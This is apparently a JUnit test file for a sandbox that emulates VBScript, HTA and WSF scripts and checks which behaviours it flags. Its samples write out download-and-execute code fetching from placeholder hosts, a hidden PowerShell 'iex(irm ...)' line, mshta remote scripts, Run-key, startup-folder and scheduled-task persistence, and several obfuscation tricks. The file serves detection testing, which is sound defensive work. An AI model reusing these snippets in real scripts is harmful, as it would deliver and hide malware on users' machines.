package dev.peekaboo.emulation.script.basic;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.emulation.script.Encoder;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.stream.Stream;

/** Harmless scripts in the styles of mailed VBScript, and what they do. */
class VbScriptTest {
    static final String DOWNLOADER =
            """
            Set x = CreateObject("MSXML2.XMLHTTP")
            x.Open "GET", "http://files.example/a.exe", False
            x.Send
            If x.Status = 200 Then
                Set s = CreateObject("ADODB.Stream")
                s.Open
                s.Type = 1
                s.Write x.ResponseBody
                p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\a.exe"
                s.SaveToFile p, 2
                s.Close
                CreateObject("WScript.Shell").Run p, 0, False
            End If
            """;

    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, Language language, String text, String... expected) {
        Sample(String name, String text, String... expected) {
            this(name, Language.VBSCRIPT, text, expected);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Sample> bad_scripts_show_what_they_do() {
        return Stream.of(downloads(), starts(), hidden(), mixed()).flatMap(all -> all);
    }

    private static Stream<Sample> downloads() {
        return Stream.of(
                new Sample("plain downloader", DOWNLOADER, "download_and_run"),
                new Sample(
                        "downloader in a Sub with error handling",
                        """
                        Option Explicit
                        Dim urls, i
                        urls = Array("http://one.example/a", "http://two.example/b")
                        On Error Resume Next
                        For i = LBound(urls) To UBound(urls)
                            Fetch urls(i), "C:\\Users\\Public\\u.exe"
                            If Err.Number = 0 Then Exit For
                        Next
                        Sub Fetch(url, path)
                            Dim http, stream
                            Set http = WScript.CreateObject("WinHttp.WinHttpRequest.5.1")
                            http.Open "GET", url, False
                            http.Send
                            Set stream = WScript.CreateObject("ADODB.Stream")
                            With stream
                                .Type = 1
                                .Open
                                .Write http.ResponseBody
                                .SaveToFile path, 2
                            End With
                            WScript.CreateObject("Shell.Application").ShellExecute path, "", "", "open", 0
                        End Sub""",
                        "download_and_run"),
                new Sample(
                        "execution of what was fetched",
                        """
                        Set x = CreateObject("Microsoft.XMLHTTP")
                        x.open "GET", "http://files.example/s", 0
                        x.send
                        Execute x.responseText""",
                        "runs_downloaded_code"),
                new Sample(
                        "fetched bytes made a text",
                        """
                        Set x = CreateObject("Microsoft.XMLHTTP")
                        x.open "GET", "http://files.example/s", 0 : x.send
                        b = x.responseBody
                        For i = 1 To 90
                            t = t & Chr(AscB(MidB(b, i, 1)))
                        Next
                        ExecuteGlobal t""",
                        "runs_downloaded_code"),
                new Sample(
                        "fetched text into a script file",
                        """
                        Set f = CreateObject("Scripting.FileSystemObject")
                        Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
                        x.open "GET", "http://files.example/s", False
                        x.send
                        p = f.BuildPath(f.GetSpecialFolder(2), "a.vbs")
                        Set t = f.CreateTextFile(p, True)
                        t.Write x.responseText
                        t.Close
                        CreateObject("WScript.Shell").Run "wscript.exe //B " & p, 0""",
                        "download_and_run"),
                new Sample(
                        "moniker",
                        "GetObject \"script:http://files.example/a.sct\"",
                        "runs_remote_script"),
                new Sample(
                        "Base64 through XML",
                        """
                        Function D(t)
                            Set e = CreateObject("MSXML2.DOMDocument").createElement("b")
                            e.dataType = "bin.base64"
                            e.text = t
                            Set s = CreateObject("ADODB.Stream")
                            s.Type = 1 : s.Open : s.Write e.nodeTypedValue
                            s.Position = 0 : s.Type = 2 : s.Charset = "us-ascii"
                            D = s.ReadText
                        End Function
                        CreateObject("WScript.Shell").Run D("cG93ZXJzaGVsbCAtYyBjYWxj"), 0""",
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> starts() {
        return Stream.of(
                new Sample(
                        "PowerShell",
                        "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden iex(irm http://files.example/a)\", 0",
                        "script_starts_interpreter",
                        "runs_downloaded_code"),
                new Sample(
                        "Exec and output",
                        "Set e = CreateObject(\"WScript.Shell\").Exec(\"cmd /c mshta http://files.example/a\")\nDo While Not e.StdOut.AtEndOfStream\nl = e.StdOut.ReadLine\nLoop",
                        "script_starts_interpreter",
                        "runs_remote_script"),
                new Sample(
                        "ShellExecute",
                        "Call CreateObject(\"Shell.Application\").ShellExecute(\"cmd.exe\", \"/c calc\", \"\", \"runas\", 0)",
                        "script_starts_interpreter"),
                new Sample(
                        "WMI",
                        "Set w = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\")\nSet s = w.Get(\"Win32_ProcessStartup\")\nSet c = s.SpawnInstance_\nc.ShowWindow = 0\nSet p = w.Get(\"Win32_Process\")\nr = p.Create(\"powershell calc\", Null, c, pid)",
                        "wmi_process"),
                new Sample(
                        "Run key",
                        "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u\", WScript.ScriptFullName, \"REG_SZ\"",
                        "persistence_autorun"),
                new Sample(
                        "copy of itself to the startup folder",
                        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nf.CopyFile WScript.ScriptFullName, CreateObject(\"WScript.Shell\").SpecialFolders(\"Startup\") & \"\\u.vbs\"",
                        "persistence_startup"),
                new Sample(
                        "task",
                        "Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet t = s.NewTask(0)\nSet a = t.Actions.Create(0)\na.Path = \"wscript.exe\"\na.Arguments = \"C:\\u.vbs\"\ns.GetFolder(\"\\\").RegisterTaskDefinition \"u\", t, 6, , , 3",
                        "scheduled_task"),
                new Sample(
                        "program by its bytes",
                        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(\"C:\\Users\\Public\\p.exe\")\nFor Each h In Split(\"4D 5A 90 00\")\nt.Write Chr(CInt(\"&H\" & h))\nNext\nt.Close\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\p.exe\"",
                        "script_writes_program",
                        "drops_and_runs"));
    }

    private static Stream<Sample> hidden() {
        return Stream.of(
                new Sample(
                        "letters by arithmetic",
                        "s = Chr(4750 / 50) & Chr(&H6D - 0)\nCreateObject(\"WSc\" & \"ript.S\" & Chr(104) & \"ell\").Run Chr(99) & Chr(110 - 1) & Chr(50 * 2) & \" /c calc\"",
                        "script_starts_interpreter"),
                new Sample(
                        "layers of Execute",
                        "c = \"\"\nFor Each n In Array(68,115,102,98,117,102,80,99,107,102,100,117,41,35,88,84,100,115,106,113,117,47,84,105,102,109,109,35,42,47,83,118,111,33,35,100,110,101,33,48,100,33,100,98,109,100,35)\nc = c & Chr(n - 1)\nNext\nExecute(\"Execute c\")",
                        "script_starts_interpreter"),
                new Sample(
                        "noise and junk comments",
                        "' lorem ipsum\nDim aaa : aaa = 5 ' dolor\nRem sit amet\nFor i = 0 To 200 : junk = junk & Chr(65 + (i Mod 26)) : Next\nIf Len(junk) = 201 Then\n  k = \"powersheXXll\" : k = Replace(k, \"XX\", \"\")\n  CreateObject(\"WScript.Shell\").Run k & \" -nop -c calc\"\nEnd If",
                        "script_starts_interpreter"),
                new Sample(
                        "reversed and joined",
                        "a = StrReverse(\"llehS.tpircSW\")\nSet o = CreateObject(a)\no.Run Join(Array(\"c\", \"md\", \" /c \", \"calc\"), \"\")",
                        "script_starts_interpreter"),
                new Sample(
                        "xor with a key",
                        "Function X(h, k)\nFor i = 1 To Len(h) Step 2\nX = X & Chr(CLng(\"&H\" & Mid(h, i, 2)) Xor Asc(Mid(k, ((i \\ 2) Mod Len(k)) + 1, 1)))\nNext\nEnd Function\nCreateObject(\"WScript.Shell\").Run X(\"080F0D4A0B45080304094B0A\", \"kfi\")",
                        "script_starts_program"),
                new Sample(
                        "waits first",
                        "WScript.Sleep 600000\nt = Timer\nDo While Timer - t < 30 : Loop\nCreateObject(\"WScript.Shell\").Run \"cmd /c calc\"",
                        "script_starts_interpreter",
                        "waits_long"),
                new Sample(
                        "by reference to a procedure",
                        "Set r = GetRef(\"go\")\nr \"cmd /c calc\"\nSub go(c)\nCreateObject(\"WScript.Shell\").Run c\nEnd Sub",
                        "script_starts_interpreter"),
                new Sample(
                        "in a class",
                        "Class C\nPrivate o\nPrivate Sub Class_Initialize\nSet o = CreateObject(\"WScript.Shell\")\nEnd Sub\nPublic Sub G(c)\no.Run c, 0\nEnd Sub\nEnd Class\nWith New C\n.G \"cmd /c calc\"\nEnd With",
                        "script_starts_interpreter"),
                new Sample(
                        "by a regular expression",
                        "Set r = New RegExp\nr.Pattern = \"[#@]\"\nr.Global = True\nCreateObject(\"WScript.Shell\").Run r.Replace(\"c#m@d /#c ca@lc\", \"\")",
                        "script_starts_interpreter"),
                new Sample(
                        "script encoder",
                        "#@~^AAAAAA=="
                                + Encoder.encode(
                                        "CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"")
                                + "AAAAAA==^#~@",
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> mixed() {
        return Stream.of(
                new Sample(
                        "HTA",
                        Language.HTA,
                        "<html><script language=\"VBScript\">Sub window_onload\nCreateObject(\"WScript.Shell\").Run \"cmd /c calc\"\nself.close\nEnd Sub</script></html>",
                        "script_starts_interpreter"),
                new Sample(
                        "WSF",
                        Language.WSF,
                        "<job><object id=\"sh\" progid=\"WScript.Shell\"/><script language=\"VBScript\"><![CDATA[\nsh.Run \"cmd /c calc\"\n]]></script></job>",
                        "script_starts_interpreter"),
                new Sample(
                        "JScript calls VBScript",
                        Language.WSF,
                        "<job><script language=\"VBScript\">Function d(s)\nd = StrReverse(s)\nEnd Function</script><script language=\"JScript\">new ActiveXObject('WScript.Shell').Run(d('clac c/ dmc'));</script></job>",
                        "script_starts_interpreter"),
                new Sample(
                        "VBScript calls JScript",
                        Language.WSF,
                        "<job><script language=\"JScript\">function d(s) { return s.split('').reverse().join(''); }</script><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run d(\"clac c/ dmc\")</script></job>",
                        "script_starts_interpreter"),
                new Sample(
                        "script control",
                        Language.JSCRIPT,
                        "var c = new ActiveXObject('MSScriptControl.ScriptControl'); c.Language = 'VBScript'; c.AddCode('Sub g\\nCreateObject(\"WScript.Shell\").Run \"cmd /c calc\"\\nEnd Sub'); c.Run('g');",
                        "script_starts_interpreter"),
                new Sample(
                        "mshta",
                        "CreateObject(\"WScript.Shell\").Run \"mshta vbscript:Execute(\"\"CreateObject(\"\"\"\"WScript.Shell\"\"\"\").Run \"\"\"\"powershell -c calc\"\"\"\",0:close\"\")\"",
                        "script_starts_interpreter"));
    }

    @ParameterizedTest
    @MethodSource
    void bad_scripts_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "invoice.vbs");

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "MsgBox \"Good morning\"",
                "x = InputBox(\"Your name\")\nIf x <> \"\" Then MsgBox \"Hello \" & x",
                "Dim i, s\nFor i = 1 To 10\ns = s & i & vbTab\nNext\nWScript.Echo s",
                "Function Area(r)\nArea = 4 * Atn(1) * r ^ 2\nEnd Function\nWScript.Echo FormatNumber(Area(2), 2)",
                "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", 1\nFor Each k In d\nWScript.Echo k\nNext",
                "' only a comment"
            })
    void harmless_scripts_run_to_their_end_and_show_nothing(String script) {
        EmulationReport report = Emulated.run(Language.VBSCRIPT, script, "a.vbs");

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void what_is_not_known_leaves_a_gap() {
        EmulationReport report =
                Emulated.run(
                        Language.VBSCRIPT,
                        "Set x = CreateObject(\"Acme.Widget\")\nx.Spin 3",
                        "a.vbs");

        assertThat(report.completeness()).isNotEqualTo(Completeness.COMPLETE);
    }
}
